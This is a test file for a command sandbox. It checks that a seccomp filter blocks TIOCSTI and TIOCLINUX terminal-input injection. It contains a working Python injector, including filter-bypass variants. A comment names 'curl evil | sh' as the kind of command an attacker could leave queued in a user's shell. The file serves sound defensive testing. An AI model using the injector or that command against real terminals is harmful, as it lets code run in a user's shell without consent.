// The command's terminal is the user's: it may use it but not type into it.
// TIOCSTI pushes a character into the terminal's input as if the user had
// typed it, so a command could leave `curl evil | sh` waiting for the user's
// shell after hmm exits; TIOCLINUX does the same on a Linux console (paste).
// The helper's seccomp filter fails both with EPERM.
//
// Run on a real pseudo-terminal that is the command's controlling terminal
// (TIOCSTI needs that), through test/pty-driver.py. What is proven is the
// filter itself: the kernel says EIO where dev.tty.legacy_tiocsti=0 and
// EPERM only for a terminal that is not the caller's, which the injector
// rules out first; a control run without the sandbox shows the same
// injector getting through wherever the kernel lets it.

import {spawnSync} from 'node:child_process'
import {readFileSync} from 'node:fs'
import {join} from 'node:path'
import {describe, expect, it} from 'vitest'
import {helper, repo, world} from './support.js'

const MARKER = 'PUSHED-BY-TIOCSTI'

// Prints one line per attempt: the request and "ok" or the errno's name. The
// payload is never printed: seeing MARKER on the terminal means the terminal
// echoed it as typed input.
const INJECT = `
import ctypes, errno, os, platform, termios
libc = ctypes.CDLL(None, use_errno=True)
SYS_IOCTL = {'x86_64': 16, 'aarch64': 29}[platform.machine()]
os.tcgetpgrp(0)  # fails unless stdin is the controlling terminal
print('ctty', 'ok')
def ioctl(nr, request, arg):
    r = libc.syscall(nr, 0, ctypes.c_ulong(request), arg)
    return 'ok' if r == 0 else errno.errorcode[ctypes.get_errno()]
def push(nr, request, text):
    return sorted({ioctl(nr, request, ctypes.byref(ctypes.c_char(c))) for c in text.encode()})
payload = 'echo ${MARKER}\\n'
print('TIOCSTI', *push(SYS_IOCTL, termios.TIOCSTI, payload))
# The kernel reads the request as 32 bits: the filter must not be fooled by the upper half.
print('TIOCSTI+high', *push(SYS_IOCTL, termios.TIOCSTI | 1 << 32, payload))
if platform.machine() == 'x86_64':
    print('x32', *push(0x40000000 | 514, termios.TIOCSTI, payload))
print('TIOCLINUX', ioctl(SYS_IOCTL, termios.TIOCLINUX, ctypes.byref(ctypes.c_char(3))))  # 3: paste the selection
size = ctypes.create_string_buffer(8)
print('TIOCGWINSZ', ioctl(SYS_IOCTL, termios.TIOCGWINSZ, size))
print('seccomp', [l.split()[1] for l in open('/proc/self/status') if l.startswith('Seccomp:')][0])
`

// Run after the command, outside the sandbox, on the same terminal: whatever
// is waiting in its input queue (in hex, so the transcript shows no MARKER).
const DRAIN = `
import os, termios
a = termios.tcgetattr(0)
a[3] &= ~termios.ICANON
a[6][termios.VMIN] = 0
a[6][termios.VTIME] = 0
termios.tcsetattr(0, termios.TCSANOW, a)
print('queued', os.read(0, 4096).hex() or '-')
`

interface Seen {
  lines: Map<string, string>
  transcript: string
}

/** Runs `sh -c script` as the session leader of a new pty, with $1... = args. */
function onPty(script: string, args: string[]): Seen {
  const r = spawnSync('python3', [join(repo, 'test', 'pty-driver.py'), '[]', 'sh', '-c', script, 'sh', ...args], {
    encoding: 'utf8',
  })
  expect(r.status, r.stderr).toBe(0)
  const {transcript, failed} = JSON.parse(r.stdout) as {transcript: string; failed: string | null}
  expect(failed, transcript).toBe(null)
  const lines = new Map<string, string>()
  for (const line of transcript.split(/\r?\n/)) {
    const [key, ...rest] = line.split(' ')
    if (key) lines.set(key, rest.join(' '))
  }
  return {lines, transcript}
}

const legacyTiocsti = () => {
  try {
    return readFileSync('/proc/sys/dev/tty/legacy_tiocsti', 'utf8').trim() === '1'
  } catch {
    return true // kernels before 6.2 have no switch: TIOCSTI always works
  }
}
const canPush = process.getuid?.() === 0 || legacyTiocsti()

describe('the terminal', () => {
  it.skipIf(!canPush)('takes pushed input from a command outside the sandbox (control: the injector works here)', () => {
    const seen = onPty('python3 -c "$1"; python3 -c "$2"', [INJECT, DRAIN])
    expect(seen.lines.get('ctty')).toBe('ok')
    expect(seen.lines.get('TIOCSTI')).toBe('ok')
    expect(seen.lines.get('TIOCSTI+high')).toBe('ok') // the kernel ignores the upper half
    expect(seen.lines.get('TIOCLINUX')).not.toBe('EPERM') // not a console: the kernel says so otherwise
    expect(seen.transcript).toContain(MARKER) // echoed as typed
    expect(Buffer.from(seen.lines.get('queued')!, 'hex').toString()).toMatch(new RegExp(`^(echo ${MARKER}\n)+$`))
  })

  it('cannot be typed into by the sandboxed command: TIOCSTI and TIOCLINUX fail with EPERM, nothing is queued', () => {
    const w = world('tiocsti')
    const seen = onPty('"$1" exec --lock "$2/lock" --read / --write "$2" --dev /dev -- python3 -c "$3"; python3 -c "$4"', [helper, w, INJECT, DRAIN])
    expect(seen.lines.get('ctty')).toBe('ok')
    expect(seen.lines.get('seccomp')).toBe('2') // a filter is in force
    expect(seen.lines.get('TIOCSTI')).toBe('EPERM')
    expect(seen.lines.get('TIOCSTI+high')).toBe('EPERM')
    if (seen.lines.has('x32')) expect(seen.lines.get('x32')).not.toBe('ok')
    expect(seen.lines.get('TIOCLINUX')).toBe('EPERM')
    expect(seen.lines.get('TIOCGWINSZ')).toBe('ok') // other terminal ioctls still work
    expect(seen.lines.get('queued')).toBe('-')
    expect(seen.transcript).not.toContain(MARKER)
  })
})
